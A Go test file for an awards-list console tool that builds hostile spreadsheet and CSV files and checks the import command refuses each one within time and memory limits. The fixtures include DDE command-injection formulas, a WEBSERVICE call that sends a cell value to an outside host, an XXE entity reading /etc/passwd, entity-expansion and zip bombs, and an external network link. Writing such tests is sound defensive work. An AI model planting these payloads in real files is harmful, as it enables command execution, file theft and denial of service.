//go:build linux

package main

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// hostile are files that must be refused, by what is wrong with them. The list
// they pretend to be is a good one.
func hostile(t *testing.T) map[string][]byte {
	t.Helper()
	good := goodBook(t)
	const sheet, texts = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
	parts := unzip(t, good)
	with := func(name, text string) []byte {
		p := maps.Clone(parts)
		p[name] = text
		return rezip(t, p, "", 0)
	}
	head := `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`
	row := parts[sheet][strings.Index(parts[sheet], "<row"):strings.Index(parts[sheet], "</sheetData>")]
	cell := func(c string) string { return head + row + `<row r="9">` + c + `</row></sheetData></worksheet>` }
	return map[string][]byte{
		"bom-nen.xlsx":          rezip(t, parts, sheet, 60_000_000),
		"bom-o.xlsx":            with(sheet, head+strings.Repeat("<row>"+strings.Repeat("<c><v>1</v></c>", 100)+"</row>", 60_000)+"</sheetData></worksheet>"),
		"trieu-cot.xlsx":        with(sheet, cell(`<c r="BDWGO9" t="str"><v>x</v></c>`)),
		"cut-giua-chung.xlsx":   good[:len(good)*2/3],
		"xml-gay-giua.xlsx":     with(sheet, head+row+`<row r="9"><c r="A9"><v>1</v></c><c r="B`),
		"chuoi-khong-co.xlsx":   with(sheet, cell(`<c r="A9" t="s"><v>99999</v></c>`)),
		"goi-mang.xlsx":         with(sheet, cell(`<c r="A9" t="str"><f>_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;B2)</f><v>1</v></c>`)),
		"goi-chuong-trinh.xlsx": with(sheet, cell(`<c r="A9" t="str"><f>cmd|'/c calc'!A0</f><v>1</v></c>`)),
		"goi-chuong-trinh.csv":  []byte("STT,Họ và tên,Đơn vị,Hình thức\n1,=cmd|'/c calc'!A0,Sở Y tế,Giấy khen\n"),
		"lien-ket-mang.xlsx":    linked(t, parts),
		"thuc-the-long-nhau.xlsx": with(texts, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`+
			`<sst><si><t>&c;</t></si></sst>`),
		"thuc-the-trong-xml.xls": []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">&a;</Workbook>`),
		"anh.xls":                append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), bytes.Repeat([]byte{0, 1}, 400)...),
		"chuong-trinh.xlsx":      append([]byte("MZ\x90\x00"), bytes.Repeat([]byte{0, 255}, 400)...),
		"mat-khau.xlsx":          encrypted(t),
		"trong.csv":              nil,
	}
}

// goodBook is a small list; its texts are shared, as Excel writes them.
func goodBook(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for i, row := range [][]any{{"STT", "Họ và tên", "Đơn vị", "Hình thức khen thưởng"}, {1, "Trần Văn Thử", "Sở Y tế", "Giấy khen"}, {2, "Lê Thị Mẫu", "Sở Y tế", "Giấy khen"}} {
		if err := f.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+1), &row); err != nil {
			t.Fatal(err)
		}
	}
	var out bytes.Buffer
	if err := f.Write(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// encrypted is the list under a password.
func encrypted(t *testing.T) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(goodBook(t)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out bytes.Buffer
	if err := f.Write(&out, excelize.Options{Password: "mat-khau"}); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// linked is the list with a link to a workbook on the network.
func linked(t *testing.T, parts map[string]string) []byte {
	p := maps.Clone(parts)
	const rels = "xl/_rels/workbook.xml.rels"
	p[rels] = strings.Replace(p[rels], "</Relationships>", `<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`, 1)
	p["xl/externalLinks/externalLink1.xml"] = `<externalLink><externalBook id="rId1"/></externalLink>`
	p["xl/externalLinks/_rels/externalLink1.xml.rels"] = `<Relationships><Relationship Id="rId1" Type="externalLinkPath" Target="https://192.0.2.1/a.xlsx" TargetMode="External"/></Relationships>`
	return rezip(t, p, "", 0)
}

func unzip(t *testing.T, raw []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		if strings.HasSuffix(f.Name, "/") {
			continue
		}
		b, err := fs.ReadFile(z, f.Name)
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(b)
	}
	return out
}

// rezip packs parts; the one named is followed by so many blanks.
func rezip(t *testing.T, parts map[string]string, name string, blanks int) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, n := range slices.Sorted(maps.Keys(parts)) {
		p, err := w.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(p, parts[n]); err != nil {
			t.Fatal(err)
		}
		for left := blanks; n == name && left > 0; left -= 1_000_000 {
			if _, err := p.Write(bytes.Repeat([]byte(" "), 1_000_000)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// Each hostile file is refused by the console with exit status 3 and one
// sentence, and the data folder stays as it was. Seconds and memory are those of
// the whole process; the limits are written down with some air for a busy machine.
func TestHostileFilesAtTheConsole(t *testing.T) {
	program, err := exec.LookPath("thiduactl")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	data := filepath.Join(dir, "du-lieu")
	call(t, done, "--data", data, "init")
	before := stateOf(t, data)
	files := hostile(t)
	maps.Copy(files, hostileKinds(t))
	for _, name := range slices.Sorted(maps.Keys(files)) {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, files[name], 0o600); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(name, "1GB") {
			if err := os.Truncate(path, 1<<30); err != nil {
				t.Fatal(err)
			}
		}
		var out, errs bytes.Buffer
		c := exec.Command(program, "--data", data, "--json", "import", "--accept", path)
		c.Stdout, c.Stderr = &out, &errs
		start := time.Now()
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		peak := peakOf(c.Process.Pid)
		err := c.Wait()
		took := time.Since(start)
		rss := <-peak
		var exit *exec.ExitError
		if !errors.As(err, &exit) || exit.ExitCode() != refused {
			t.Errorf("%s: %v, want exit status %d\n%s", name, err, refused, errs.String())
			continue
		}
		if said := strings.TrimSpace(errs.String()); said == "" || strings.Contains(said, "\n") || !strings.Contains(said, name) {
			t.Errorf("%s: said %q, want one sentence that names the file", name, said)
		}
		var answer struct{ Error string }
		if err := json.Unmarshal(out.Bytes(), &answer); err != nil || answer.Error == "" {
			t.Errorf("%s: answered %q", name, out.String())
		}
		t.Logf("%-26s %6.2f s  %4d MiB  %s", name, took.Seconds(), rss>>20, strings.TrimSpace(errs.String()))
		if took > 10*time.Second && c.ProcessState.UserTime()+c.ProcessState.SystemTime() > 10*time.Second {
			t.Errorf("%s: took %v", name, took)
		}
		if rss > 512<<20 {
			t.Errorf("%s: took %d MiB", name, rss>>20)
		}
	}
	if after := stateOf(t, data); after != before {
		t.Errorf("the data folder changed:\n%s\nwas\n%s", after, before)
	}
	call(t, done, "--data", data, "verify")
}

// peakOf watches a process and gives the most memory it had, in bytes, once it
// has ended. The rusage of a child would count this process's own at the fork.
func peakOf(pid int) <-chan int64 {
	out := make(chan int64, 1)
	go func() {
		var most int64
		for {
			status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
			_, hwm, ok := strings.Cut(string(status), "VmHWM:")
			if err != nil || !ok {
				out <- most
				return
			}
			var kib int64
			if _, err := fmt.Sscanf(hwm, "%d", &kib); err == nil {
				most = max(most, kib<<10)
			}
			time.Sleep(time.Millisecond)
		}
	}()
	return out
}

// stateOf is what the store and the folder of attachments hold.
func stateOf(t *testing.T, data string) string {
	t.Helper()
	sum := sha256.New()
	for _, args := range [][]string{{"batches"}, {"dossiers"}, {"log"}} {
		sum.Write(call(t, done, append([]string{"--data", data, "--json"}, args...)...))
	}
	s := fmt.Sprintf("%x", sum.Sum(nil))
	err := filepath.WalkDir(filepath.Join(data, "tep"), func(path string, _ fs.DirEntry, err error) error {
		s += "\n" + path
		return err
	})
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		t.Fatal(err)
	}
	return s
}
